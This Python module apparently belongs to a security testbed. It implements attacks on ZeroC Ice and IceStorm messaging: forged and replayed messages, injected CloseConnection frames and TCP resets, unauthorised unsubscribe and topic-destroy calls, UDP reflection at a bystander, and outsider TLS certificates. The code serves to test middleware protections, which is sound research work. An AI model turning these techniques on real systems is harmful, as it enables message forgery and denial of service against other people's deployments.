"""Ice and IceStorm: a broker that knows certificates at most, and no rights to topics."""

import time
from typing import TYPE_CHECKING, Any

from comseclab.attack import forged, icep, icestorm, tcp
from comseclab.attack.base import Rogue
from comseclab.attack.dialect import Dialect, Prepared, Setting
from comseclab.attack.frame import TCP, Frame
from comseclab.attack.icep import Identity
from comseclab.attack.icestorm import Call
from comseclab.attack.path import passes
from comseclab.middleware.base import Material, Place
from comseclab.middleware.ice import MANAGER_PORT, PUBLISH_PORT
from comseclab.protection import tls
from comseclab.protection.proof import sentinels
from comseclab.trial.spec import Factors

if TYPE_CHECKING:
    from collections.abc import Iterable

    from comseclab.attack.scene import Scene

REPLAYED = 20
"""Messages sent again."""
PATIENCE_S = 0.5
FORGED = 5
"""Messages sent to each who might take them."""
REFLECTED_PORT = 7400
SILENCES = {
    "unsubscribe": "a stranger's call to the topic that ends the subscription (IceStorm::Topic::unsubscribe)",
    "destroy": "a stranger's call that destroys the topic (IceStorm::Topic::destroy)",
    "close": "a message CloseConnection of Ice put into the broker's connection to the subscriber",
    "reset": "a TCP reset in the publisher's name",
}


class Ice(Dialect):
    """The broker is on the writer's host, so what shows of the stream is its way from broker to subscriber."""

    stacks = ("ice",)
    authorities = tls.AUTHORITIES
    silences = SILENCES

    def refuse(self, attack: str, factors: Factors) -> str | None:
        if attack == "self-signed-permissions":
            return "IceStorm knows no permissions: whoever may connect may do everything"
        if attack == "reflection":
            return None
        return super().refuse(attack, factors)

    def prepare(self, setting: Setting) -> Prepared:
        """Certificates for the genuine nodes and for insiders; outsiders make their own."""
        insiders = {rogue: place for rogue, place in setting.rogues.items() if _is_insider(rogue)}
        genuine = setting.middleware.prepare(setting.spec, setting.places, setting.folder)
        material = tls.with_insiders(genuine, setting.spec.protection, [*insiders.values()], setting.folder)
        settings = {}
        for rogue, place in setting.rogues.items():
            files = material.files if rogue in insiders else _strange(setting, place, material)
            settings[rogue] = setting.middleware.node_settings(setting.spec, place, Material(files))
        return Prepared(material, settings)

    def is_message(self, frame: Frame, scene: "Scene") -> bool:
        """Of the broker's frames to the subscriber, those with a message, in clear or as a TLS record."""
        stream = scene.spec.trial.streams[0]
        return (
            frame.protocol == TCP
            and frame.source[0] == scene.writer.address
            and frame.destination[0] == scene.reader.address
            and len(frame.payload) > stream.max_size // 2
        )

    def forge(self, scene: "Scene") -> None:
        """Publish at the broker, and push to the subscriber itself as only the broker should."""
        message = _forged(scene)
        topic = Call(icestorm.topic(scene), "getPublisher", idempotent=True)
        replies = icestorm.ask(scene, scene.writer.address, MANAGER_PORT, [topic])
        publisher = icestorm.publisher(replies) or topic.target
        icestorm.ask(scene, scene.writer.address, PUBLISH_PORT, [Call(publisher, "push", message)] * FORGED)
        if place := _subscriber(scene):
            address, port, subscriber = place
            icestorm.ask(scene, address, port, [Call(subscriber, "push", message)] * FORGED)

    def replay(self, scene: "Scene", *, resequenced: bool) -> None:
        """Over a fresh connection to the subscriber; resequenced: in the broker's own connection, each in place of a
        newer message and under its request number, as if TCP carried it just then.

        A subscriber that was restarted has a fresh connection anyhow, which is where old messages count as new.
        """
        recorded = [frame.payload for frame in scene.messages()][:REPLAYED]
        if resequenced and scene.restarted_ns is None:
            scene.note(f"{len(recorded)} recorded messages are put in the place of as many new ones")
            tcp.substitute(scene, recorded, _renumbered)
        elif place := _subscriber(scene):
            icestorm.resend(scene, place[0], place[1], recorded)

    def silence(self, scene: "Scene", message: str) -> None:
        topic = icestorm.topic(scene)
        if message == "close":
            self._close(scene)
        elif message == "reset":
            tcp.reset(scene)
        elif message == "destroy":
            icestorm.ask(scene, scene.writer.address, MANAGER_PORT, [Call(topic, "destroy")])
        else:
            self._unsubscribe(scene, topic)

    def _unsubscribe(self, scene: "Scene", topic: Identity) -> None:
        broker = scene.writer.address
        listed = icestorm.ask(scene, broker, MANAGER_PORT, [Call(topic, "getSubscribers")])
        if listed and listed[0].status == "ok":
            # IceStorm knows a subscriber by its identity alone, whatever the endpoint.
            proxies = [icep.proxy(one, icep.TCP, broker, 1) for one in icep.take_identities(listed[0].results)]
            calls = [Call(topic, "unsubscribe", one, idempotent=True) for one in proxies]
            icestorm.ask(scene, broker, MANAGER_PORT, calls)

    def _close(self, scene: "Scene") -> None:
        def rule(frame: Frame) -> "Iterable[tuple[float, Frame]]":
            if self.is_message(frame, scene):
                scene.follow(passes)
                scene.inject_on_path(frame.with_payload(icep.message(icep.CLOSE)))
                scene.note(f"CloseConnection to {frame.destination[0]}:{frame.destination[1]} in the broker's name")
            return ((0.0, frame),)

        scene.follow(rule)

    def reflect(self, scene: "Scene") -> None:
        """Subscribe an object at the bystander's address, over UDP, where nobody has to agree to a connection."""
        nobody = icep.proxy(Identity("bystander", ""), icep.UDP, scene.hosts["bystander"].address, REFLECTED_PORT)
        call = Call(icestorm.topic(scene), "subscribeAndGetPublisher", icep.size(0) + nobody)
        icestorm.ask(scene, scene.writer.address, MANAGER_PORT, [call])


def _is_insider(rogue: Rogue) -> bool:
    return rogue.credentials in ("no-permission", "permitted")


def _strange(setting: Setting, place: Place, genuine: Material) -> dict[str, Any]:
    """What an outsider can have under TLS: the genuine authority's certificate, which is public, to accept the broker
    by; and a certificate of an authority that it made itself.
    """
    if setting.spec.protection.base == "none":
        return {}
    own = setting.spec.protection.model_copy(update={"keystore": None})
    party = tls.Party(place.node, place.host, place.address)
    files = tls.prepare(own, [party], setting.folder / "strange").files[place.node]
    ca = next(iter(genuine.files.values()))["identity_ca"]
    return {place.node: {**files, "identity_ca": ca}}


def _subscriber(scene: "Scene") -> tuple[str, int, Identity] | None:
    """Where the subscriber listens, and the name of its object: what the path shows, and in TLS how nodes are named."""
    message = _latest(scene)
    if message is None:
        scene.note("no message shows where the subscriber listens")
        return None
    address, port = message.destination
    try:
        return address, port, icep.target_of(message.payload)
    except ValueError:
        stream = scene.spec.trial.streams[0]
        return address, port, Identity(str(stream.id), f"{scene.reader.name}-subscriber")


def _latest(scene: "Scene") -> Frame | None:
    """The last message to the subscriber; to its new self, for which it may be waited a little, if it was restarted."""
    until = time.monotonic() + PATIENCE_S
    while True:
        since_ns = scene.back_ns or 0
        found = [frame for frame in scene.messages() if frame.at_ns >= since_ns]
        if found or time.monotonic() > until:
            return found[-1] if found else None
        time.sleep(0.01)


def _renumbered(old: bytes, fresh: bytes) -> bytes:
    """A recorded request as the one in whose place it goes; a TLS record as it is."""
    both_in_clear = old.startswith(icep.HEADER) and fresh.startswith(icep.HEADER)
    return icep.renumbered(old, icep.number_of(fresh)) if both_in_clear else old


def _forged(scene: "Scene") -> bytes:
    """Parameters of `push`: a message that the path shows, with the attacker's nonce in place of the writer's, or one
    that is nothing but the nonce.
    """
    genuine, own = scene.spec.trial.nonce, scene.spec.forged_nonce
    for frame in reversed(scene.messages()):
        if parameters := _pushed(frame.payload):
            return forged.with_nonce(parameters, genuine, own)
    sentinel = sentinels(own)[0]
    content = sentinel * (1 + scene.spec.trial.streams[0].max_size // len(sentinel))
    return icep.size(len(content)) + content


def _pushed(segment: bytes) -> bytes | None:
    """Parameters of the first `push` in a segment, which may hold more messages behind it; None where none is whole."""
    _, found, parameters = segment.partition(icep.string("push") + b"\0" + icep.NO_CONTEXT)
    try:
        return icep.take_encapsulation(parameters)[0] if found else None
    except ValueError:
        return None


DIALECT = Ice()
